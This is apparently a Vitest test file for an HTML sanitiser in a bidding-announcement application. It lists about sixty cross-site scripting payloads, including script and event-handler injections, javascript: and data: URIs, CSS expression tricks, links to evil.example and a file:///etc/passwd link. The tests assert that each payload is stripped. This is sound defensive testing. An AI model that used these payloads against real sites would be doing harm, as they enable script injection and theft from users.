import { describe, expect, test } from 'vitest';
import { Validation } from '#kernel/rules/refusals.ts';
import { attachmentsIn, plainTextOf, safeLink, sanitiseRich } from '../sanitise.ts';

/** Each must leave nothing that runs, loads or navigates anywhere but to http, https, mailto. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></table><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<a href="http://good.example@evil.example/">x</a>',
  '<a href="blob:https://x.example/1">x</a>',
  '<a href="/api/common-order/common/order/revoke">x</a>',
  '<a href="/files/12/../../api/x">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<form action="https://evil.example"><input name=p><button>Go</button></form>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<style>@import "//evil.example"</style>',
  '<div style="background:url(//evil.example/x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh">x</div>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="color:red;behavior:url(x.htc)">x</p>',
  '<p onclick="alert(1)">x</p>',
  '<p ONMOUSEOVER=alert(1)>x</p>',
  '<body onload=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img srcset="https://evil.example/x 2x" src="/files/1/a.png">',
  '<img src="/files/1/../../../x">',
  '<a href="/files/9/a.pdf" onclick=alert(1) ping="https://evil.example">x</a>',
  '<p id="app" class="ant-btn" data-x="1">x</p>',
  '<a name="x" id="location" href="https://ok.example">x</a>',
  '<plaintext><script>alert(1)',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<isindex type=image src=1 onerror=alert(1)>',
];

describe('trust 4: text of people is hostile on staff pages too', () => {
  test.each(HOSTILE)('%s', (snippet) => {
    const clean = sanitiseRich(`before ${snippet}`);
    expect(clean).not.toMatch(
      /<\/?(script|svg|math|iframe|object|embed|form|input|button|link|meta|base|style|body|video|audio|source|details|marquee|template|noscript|textarea|xmp|select|isindex|plaintext)\b/i,
    );
    for (const [tag] of clean.matchAll(/<[a-z][^>]*>/gi)) {
      expect(tag).not.toMatch(
        /\son\w+\s*=|srcset|ping=|\sid=|\sclass=|data-|url\(|expression|behavior|position/i,
      );
      for (const [, , value = ''] of tag.matchAll(/\s(href|src)="([^"]*)"/g))
        expect(value).toMatch(/^(https?:\/\/(?!.*@)|mailto:|\/files\/\d+\/(?!.*\.\.))/);
      if (tag.startsWith('<img')) expect(tag).toMatch(/\ssrc="\/files\//);
    }
    expect(sanitiseRich(clean)).toBe(clean);
  });
  test('there are enough of them', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(40));
});

test('administration-domain 0.1: what people write stays: headings, lists, tables, links with rel, attachments, alignment', () => {
  const kept =
    '<h2 style="text-align:center">竞价公告</h2><p><strong>甲醇</strong> <em>500 t</em><br />CNY 2,385.50</p><ul><li>a</li></ul><table><tbody><tr><td colspan="2">x &lt; y</td></tr></tbody></table><img src="/files/12/a.png" alt="罐区" />';
  expect(sanitiseRich(kept)).toBe(kept);
  expect(sanitiseRich('<a href="https://example.com/a?b=1&amp;c=2">x</a>')).toBe(
    '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  );
  expect(sanitiseRich('<a href="mailto:sales@example.com">x</a>')).toContain(
    'href="mailto:sales@example.com"',
  );
  expect(sanitiseRich('<a href="/files/77/%E5%85%AC%E5%91%8A.pdf">x</a>')).toContain(
    'href="/files/77/%E5%85%AC%E5%91%8A.pdf"',
  );
});

test('too long refuses, plain text and attachments are read off', () => {
  expect(() => sanitiseRich('甲'.repeat(51), 50)).toThrow(/10009.*text\.max:50/);
  try {
    sanitiseRich('x'.repeat(51), 50);
  } catch (error) {
    expect(Validation.is(error)).toBe(true);
  }
  expect(plainTextOf('<p>甲醇&nbsp;&amp; water</p><p>a &lt;b&gt;</p><script>x</script>')).toBe(
    '甲醇 & water a <b>',
  );
  expect(
    attachmentsIn('<img src="/files/12/a.png"><a href="/files/7/b.pdf">x</a><img src="/files/12/a.png">'),
  ).toEqual(['12', '7']);
  expect([
    safeLink('https://a.example/x'),
    safeLink('ftp://a.example'),
    safeLink('https://'),
    safeLink(''),
  ]).toEqual(['https://a.example/x', null, null, null]);
});
